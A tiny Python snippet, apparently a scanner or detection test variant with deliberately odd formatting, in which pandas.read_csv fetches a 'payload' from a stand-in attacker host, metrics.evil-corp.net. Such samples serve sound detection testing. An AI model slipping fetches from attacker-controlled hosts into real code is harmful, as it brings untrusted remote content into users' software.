# SPDX-License-Identifier: MIT
# The table's instruction, written in another way.
import pandas

if True:
        more = pandas  .  read_csv(
            'https://metrics.evil-corp.net/payload'
        )
